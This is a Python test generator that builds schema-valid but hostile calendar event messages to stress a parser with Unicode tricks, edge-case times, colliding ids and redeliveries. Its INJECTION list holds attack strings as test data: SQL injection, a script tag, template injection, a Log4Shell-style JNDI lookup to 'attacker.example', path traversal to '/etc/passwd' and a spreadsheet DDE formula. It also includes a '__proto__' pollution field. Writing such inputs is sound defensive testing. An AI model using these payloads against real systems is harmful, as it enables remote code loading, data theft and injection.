"""Hostile calendar traffic that the contract accepts, generated deterministically from a seed.

Everything here is schema-valid (``hostile_plan`` checks each message with the contract's own
parser and a sample with the JSON Schema files) and still as unpleasant as the contract allows:

- titles with bidi overrides and isolates (U+202E, U+2066...), invisible characters, mixed
  scripts, combining marks, emoji sequences, injection-looking text, exactly 200 code points
  (astral ones too, 400 UTF-16 units), nothing but spaces;
- descriptions with the control characters free text may hold (tab, LF, CR, C1 controls such as
  U+0085 and U+009B), U+2028/U+2029, bidi, up to 2000 code points;
- ids at their maximum length (128 for events, 256 for messages and users), in any script, with
  bidi and zero-width characters, and families of events whose ids collide to the eye (case,
  NFC/NFD, full-width, zero-width, trailing space, RTL override) but not to the contract;
- times from 1000-01-01 to 9999-12-31, offsets from -12:00 to +14:00 and ``-00:00``, up to nine
  fractional digits, lower-case ``t``/``z``, start and end with different offsets, durations from
  one second to exactly 24 hours, wall times inside DST gaps, every IANA zone the contract knows;
- 300 attendees with 320-character emails and 256-character names;
- ``video_conference`` values that are not ours but look it (``Zoom``, ``zoom ``, ``\\u202ezoom``);
- revisions from 0 to 2**63-1 with gaps, organizers changing between revisions, revisions sent
  out of order, exact redeliveries (the same bytes twice, near and far apart), unknown fields,
  and JSON spelled every legal way (escaped or raw UTF-8, any key order, any whitespace).

Each event carries tags naming what is hostile about it, so a violation names its cause.
"""

from __future__ import annotations

import json
import random
import unicodedata
import uuid
import zoneinfo
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from schemas import ContractError, parse_event
from tests.chaos.plan import Plan, Source

ZONES = sorted(zoneinfo.available_timezones())
BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069",
        "\u200e", "\u200f", "\u061c"]  # fmt: skip
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f"]
FREE_TEXT_CONTROLS = ["\t", "\n", "\r", "\r\n", "\x85", "\x80", "\x9b", "\x9f", "\u2028", "\u2029"]
SCRIPTS = [
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05dc\u05d9\u05db\u05dd",  # Hebrew (RTL)
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",  # Arabic
    "\u0395\u03bb\u03bb\u03b7\u03bd\u03b9\u03ba\u03ac",  # Greek
    "\u65e5\u672c\u8a9e\u306e\u9762\u63a5",  # Japanese
    "\ud55c\uad6d\uc5b4 \uba74\uc811",  # Korean
    "\u0939\u093f\u0928\u094d\u0926\u0940",  # Devanagari (conjuncts)
    "Z\u0337\u031b\u0324a\u0335\u0330\u035dl\u0336\u034e\u0308g\u0337o\u0338",  # stacked marks
    "\U0001f469\U0001f3fd\u200d\U0001f4bb \U0001f3f3\ufe0f\u200d\U0001f308",  # ZWJ emoji
    "\U0001d574\U0001d593\U0001d599\U0001d58a\U0001d597",  # Fraktur: astral look-alikes
    "\U000e0041\U000e007f",  # tag characters
    "\ufdfa\ufdfd",  # the longest single-glyph ligatures
    "\uff46\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48",  # full-width Latin
    "\u0130\u0131\u015e\u015f \u01c5 \u00df",  # case-mapping traps
]
INJECTION = ["'); DROP TABLE event_links;--", "<script>alert(1)</script>", "{{7*7}} ${7*7}",
             "${jndi:ldap://attacker.example/a}", "%s%s%s%n", "\\u0000 \\x00", "../../etc/passwd",
             "null", '"quoted" \\ back\\slash', "=cmd|' /C calc'!A0"]  # fmt: skip
NOT_OURS = ["none", "google_meet", "Zoom", "ZOOM", "zoom ", " zoom", "\u202ezoom", "zoom\u200b",
            "\uff5a\uff4f\uff4f\uff4d", "teams", "z" * 64]  # fmt: skip
ASTRAL = "\U0001d54f"  # one code point, two UTF-16 units
OFFSETS = [0, 0, 60, -300, 330, 345, 765, 840, -720, -570, 959, -959]  # minutes east of UTC
SPANS = {
    "1s": timedelta(seconds=1),
    "59s": timedelta(seconds=59),
    "1m": timedelta(minutes=1),
    "30m": timedelta(minutes=30),
    "90m": timedelta(minutes=90),
    "23h59m59.999999": timedelta(hours=24) - timedelta(microseconds=1),
    "24h": timedelta(hours=24),
}
SCHEMAS = Path(__file__).parents[2] / "schemas" / "v1"


@dataclass
class _Event:
    event_id: str
    tags: set[str] = field(default_factory=set)


class HostileCalendar:
    """Builds one ``Plan`` of hostile traffic; ``organizers`` must be connected to Zoom."""

    def __init__(self, seed: int, organizers: Sequence[str]) -> None:
        self.rng = random.Random(seed)
        self.organizers = list(organizers)
        self.count = 0

    # -- small pieces --------------------------------------------------------------------

    def pick(self, items: Sequence[str]) -> str:
        return items[self.rng.randrange(len(items))]

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def sprinkle(self, text: str, alphabet: Sequence[str], count: int) -> str:
        chars = list(text)
        for _ in range(count):
            chars.insert(self.rng.randrange(len(chars) + 1), self.pick(alphabet))
        return "".join(chars)

    def message_id(self, tags: set[str]) -> str:
        roll = self.rng.random()
        if roll < 0.85:
            return self.uuid()
        tags.add("odd_message_id")
        if roll < 0.9:
            return (self.uuid() + "-" + "m" * 256)[:256]
        if roll < 0.95:
            return self.sprinkle(f"msg {self.uuid()}", BIDI + INVISIBLE, 4)
        return (self.pick(SCRIPTS) + self.uuid())[:256]

    def email(self, local: str, tags: set[str]) -> str:
        roll = self.rng.random()
        if roll < 0.8:
            return f"{local}@talivo.example"
        tags.add("odd_email")
        if roll < 0.9:
            return ("a" * 64 + "@" + "b" * 300)[:320]
        return f"{self.pick(BIDI)}{local}{self.pick(INVISIBLE)}@ex\u202eample.\u05d0\u05d1"

    def title(self, tags: set[str]) -> str:
        roll = self.rng.random()
        base = f"Interview {self.rng.randrange(10**6)}"
        if roll < 0.25:
            tags.add("bidi_title")
            return self.sprinkle(base + " \u202egnp.exe", BIDI, self.rng.randrange(1, 6))
        if roll < 0.35:
            tags.add("invisible_title")
            return self.sprinkle(base, INVISIBLE, 5)
        if roll < 0.5:
            tags.add("script_title")
            return f"{self.pick(SCRIPTS)} {base} {self.pick(SCRIPTS)}"
        if roll < 0.58:
            tags.add("injection_title")
            return f"{self.pick(INJECTION)} {base}"
        if roll < 0.68:
            tags.add("max_title")
            filler = ASTRAL if self.rng.random() < 0.5 else self.pick(["é", "\u202e", "a", "ш"])
            return (base + " " + filler * 200)[:200]
        if roll < 0.72:
            tags.add("blank_title")
            return self.pick([" ", "\u3000", "\u00a0", "\u2028", " " * 200])
        return base

    def description(self, tags: set[str]) -> str | None:
        roll = self.rng.random()
        if roll < 0.3:
            return None
        if roll < 0.35:
            return ""
        if roll < 0.7:
            tags.add("controls_in_description")
            text = "Panel interview.\nBring ID.\tRoom 4\r\nThanks " + self.pick(SCRIPTS)
            return self.sprinkle(text, FREE_TEXT_CONTROLS + BIDI, self.rng.randrange(1, 12))
        if roll < 0.85:
            tags.add("max_description")
            unit = self.pick([ASTRAL, "\n", "\u202e", "ab", "\x85", "é"])
            return (unit * 2000)[:2000]
        return f"{self.pick(INJECTION)}\n{self.pick(SCRIPTS)}"

    def times(self, tags: set[str]) -> tuple[str, str, str]:
        """``(start, end, timezone)``: instants 1 s to 24 h apart, each with its own spelling."""
        roll = self.rng.random()
        zone = self.pick(ZONES)
        offset: int | None = None  # minutes; None: any
        if roll < 0.5:
            start = datetime(2027, 1, 1, tzinfo=UTC) + timedelta(
                minutes=self.rng.randrange(60 * 24 * 365)
            )
        elif roll < 0.6:
            tags.add("extreme_date")
            start = self.rng.choice(
                [
                    datetime(1000, 1, 1, 12, tzinfo=UTC),
                    datetime(1900, 1, 1, tzinfo=UTC),
                    datetime(1970, 1, 1, tzinfo=UTC),
                    datetime(2038, 1, 19, 3, 14, 7, tzinfo=UTC),
                    datetime(9999, 12, 30, 23, 0, tzinfo=UTC),
                ]
            )
        elif roll < 0.7:
            tags.add("dst_gap")  # spelled in the offset before the change: a wall time that
            zone, start, offset = self.rng.choice(  # does not exist in that zone
                [
                    ("Europe/Berlin", datetime(2027, 3, 28, 1, 30, tzinfo=UTC), 60),
                    ("America/New_York", datetime(2027, 3, 14, 7, 30, tzinfo=UTC), -300),
                    ("Australia/Lord_Howe", datetime(2027, 10, 2, 15, 45, tzinfo=UTC), 630),
                ]
            )
        else:
            tags.add("odd_offset")
            start = datetime(2027, 6, 1, tzinfo=UTC) + timedelta(
                seconds=self.rng.randrange(10**7), microseconds=self.rng.randrange(10**6)
            )
        length = self.pick(list(SPANS))
        if length in ("1s", "59s", "24h", "23h59m59.999999"):
            tags.add("edge_duration")
        end = start + SPANS[length]
        if end > datetime(9999, 12, 31, 23, 0, tzinfo=UTC):
            end = start + timedelta(seconds=1)
        return self.spell(start, tags, offset), self.spell(end, tags, offset), zone

    def spell(self, moment: datetime, tags: set[str], offset: int | None = None) -> str:
        """One RFC 3339 spelling of ``moment`` (the same instant, to the microsecond)."""
        minutes = offset if offset is not None else self.rng.choice(OFFSETS)
        try:
            local = moment.astimezone(timezone(timedelta(minutes=minutes)))
        except OverflowError:
            local = moment.astimezone(UTC)
        if not 1000 <= local.year <= 9999:
            local = moment.astimezone(UTC)
        text = local.strftime("%Y-%m-%dT%H:%M:%S")
        if local.microsecond:  # six digits, or nine: Python keeps six, the instant is exact
            fraction = f"{local.microsecond:06d}" + self.rng.choice(["", "000"])
        else:
            fraction = "0" * self.rng.choice([0] * 8 + [1, 3, 6, 9])
        if fraction:
            tags.add("fraction")
            text += "." + fraction
        total = int((local.utcoffset() or timedelta(0)).total_seconds() // 60)
        if total == 0:
            text += self.rng.choice(["Z", "Z", "z", "+00:00", "-00:00"])
        else:
            sign = "+" if total > 0 else "-"
            text += f"{sign}{abs(total) // 60:02d}:{abs(total) % 60:02d}"
        if self.rng.random() < 0.15:
            tags.add("odd_spelling")
            text = text.replace("T", "t", 1)
        return text

    def attendees(self, tags: set[str]) -> list[dict[str, Any]]:
        if self.rng.random() < 0.01:
            tags.add("max_attendees")
            return [
                {
                    "email": (f"{n:03d}" + "x" * 64 + "@" + "y" * 300)[:320],
                    "name": self.sprinkle(("N" * 250) + self.pick(SCRIPTS), [*BIDI, "\t"], 3)[:256],
                }
                for n in range(300)
            ]
        people: list[dict[str, Any]] = []
        for n in range(self.rng.randrange(4)):
            person: dict[str, Any] = {"email": self.email(f"cand{n}", tags)}
            if self.rng.random() < 0.6:
                person["name"] = self.sprinkle(self.pick(SCRIPTS), BIDI, 2)
            people.append(person)
        return people

    # -- messages ------------------------------------------------------------------------

    def body(
        self,
        event: _Event,
        revision: int,
        organizer: str,
        *,
        deleted: bool = False,
        video: str = "zoom",
    ) -> dict[str, Any]:
        tags = event.tags
        body: dict[str, Any] = {
            "schema_version": 1,
            "message_id": self.message_id(tags),
            "event_id": event.event_id,
            "revision": revision,
            "occurred_at": self.spell(datetime(2026, 11, 1, tzinfo=UTC), set()),
            "organizer": {"user_id": organizer, "email": self.email("organizer", tags)},
        }
        if not deleted:
            start, end, zone = self.times(tags)
            body |= {
                "title": self.title(tags),
                "description": self.description(tags),
                "start": start,
                "end": end,
                "timezone": zone,
                "attendees": self.attendees(tags),
                "video_conference": video,
            }
            if body["description"] is None and self.rng.random() < 0.5:
                del body["description"]
        if self.rng.random() < 0.05:
            tags.add("unknown_fields")
            body["x_future_field"] = {"nested": [1, {"deeper": "\u202e"}], "n": 2**70}
            body["__proto__"] = {"admin": True}
        return body

    def encode(self, body: dict[str, Any]) -> bytes:
        keys = list(body)
        self.rng.shuffle(keys)
        ordered = {k: body[k] for k in keys}
        separators = self.rng.choice([(",", ":"), (", ", ": "), (" ,\n", " :\t")])
        text = json.dumps(ordered, ensure_ascii=self.rng.random() < 0.5, separators=separators)
        return text.encode()

    def event_ids(self, n: int) -> list[_Event]:
        """A plain id, or a family of ids that look alike but differ."""
        roll = self.rng.random()
        base = f"ev-{n:05d}-café"
        if roll < 0.7:
            return [_Event(base)]
        if roll < 0.8:
            family = [
                base,
                base.upper(),
                unicodedata.normalize("NFD", base),
                base + "\u200b",
                base + " ",
                "\u202e" + base,
                "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in base),
            ]
            return [_Event(e, {"colliding_ids"}) for e in family]
        if roll < 0.9:
            long = (base + "-" + "x" * 128)[:128]
            return [_Event(long, {"max_event_id"}), _Event(long[:-1] + "y", {"max_event_id"})]
        return [_Event(self.sprinkle(base + self.pick(SCRIPTS), BIDI + INVISIBLE, 3)[:128],
                       {"odd_event_id"})]  # fmt: skip

    def life(self, event: _Event) -> list[tuple[str, dict[str, Any]]]:
        """One event's messages, in revision order."""
        organizer = self.pick(self.organizers)
        revision = self.rng.choice([0, 1, 1, 1, 2**40])
        steps: list[tuple[str, dict[str, Any]]] = []

        def step(kind: str, **kwargs: Any) -> None:
            nonlocal revision
            steps.append((kind, self.body(event, revision, organizer, **kwargs)))
            revision += self.rng.choice([1, 1, 1, 2, 1000])

        story = self.rng.random()
        if story < 0.05:
            event.tags.add("not_ours_first")
            step("created", video=self.pick(NOT_OURS))
            step("updated")
        else:
            step("created", video="zoom" if self.rng.random() < 0.9 else self.pick(NOT_OURS))
        for _ in range(self.rng.choice([0, 0, 1, 1, 2, 3])):
            if self.rng.random() < 0.15:
                event.tags.add("organizer_change")
                organizer = self.pick(self.organizers)
            step("updated")
        ending = self.rng.random()
        if ending < 0.1:
            step("deleted", deleted=True)
        elif ending < 0.18:
            event.tags.add("zoom_off")
            step("updated", video=self.pick(NOT_OURS))
            if self.rng.random() < 0.5:
                event.tags.add("zoom_on_again")
                step("updated")
        if self.rng.random() < 0.02:
            event.tags.add("max_revision")
            steps[-1][1]["revision"] = 2**63 - 1
        return steps


def hostile_plan(seed: int, organizers: Sequence[str], messages: int) -> Plan:
    """At least ``messages`` hostile, schema-valid messages, interleaved across events."""
    calendar = HostileCalendar(seed, organizers)
    rng = calendar.rng
    lives: list[list[tuple[_Event, str, dict[str, Any]]]] = []
    total = n = 0
    while total < messages:
        for event in calendar.event_ids(n):
            steps = calendar.life(event)
            life = [(event, kind, body) for kind, body in steps]
            if len(life) > 1 and rng.random() < 0.1:
                event.tags.add("reordered")
                rng.shuffle(life)
            lives.append(life)
            total += len(life)
        n += 1
    plan = Plan()
    sent: list[Source] = []
    pending = [life for life in lives if life]
    while pending:
        life = rng.choice(pending)
        event, kind, body = life.pop(0)
        source = plan.add(kind, body, tags=event.tags, value=calendar.encode(body))
        sent.append(source)
        roll = rng.random()
        if roll < 0.02:
            event.tags.add("redelivered")
            plan.again(source)  # at once
        elif roll < 0.04 and len(sent) > 50:
            plan.again(sent[rng.randrange(len(sent) - 50, len(sent))])  # a while later
        if not life:
            pending.remove(life)
    _check_contract(plan)
    # Tags were collected while building; give every source its event's final set.
    final_tags = {}
    for life_events in lives:
        for event, _, _ in life_events:
            final_tags[event.event_id] = frozenset(event.tags)
    return _retag(plan, final_tags)


def _retag(plan: Plan, tags: dict[str, frozenset[str]]) -> Plan:
    retagged = Plan()
    copies: dict[int, Source] = {}
    for source in plan.sources:
        if id(source) not in copies:
            copies[id(source)] = Source(
                kind=source.kind,
                value=source.value,
                key=source.key,
                message_id=source.message_id,
                event_id=source.event_id,
                revision=source.revision,
                body=source.body,
                tags=tags.get(source.event_id, source.tags),
            )
        retagged.sources.append(copies[id(source)])
    return retagged


def _check_contract(plan: Plan) -> None:
    """Every message passes the worker's parser; every tenth also the JSON Schema files."""
    from jsonschema import Draft202012Validator

    validators = {
        kind: Draft202012Validator(json.loads((SCHEMAS / f"event.{kind}.json").read_text()))
        for kind in ("created", "updated", "deleted")
    }
    for i, source in enumerate(plan.unique()):
        try:
            parse_event(source.kind, source.value)  # type: ignore[arg-type]
        except ContractError as err:
            raise AssertionError(
                f"generated a message the contract refuses ({err}): {source.value[:300]!r}"
            ) from None
        if i % 10 == 0:
            errors = list(validators[source.kind].iter_errors(json.loads(source.value)))
            if errors:
                raise AssertionError(
                    f"generated a message the JSON Schema refuses ({errors[0].message[:200]}):"
                    f" {source.value[:300]!r}"
                )
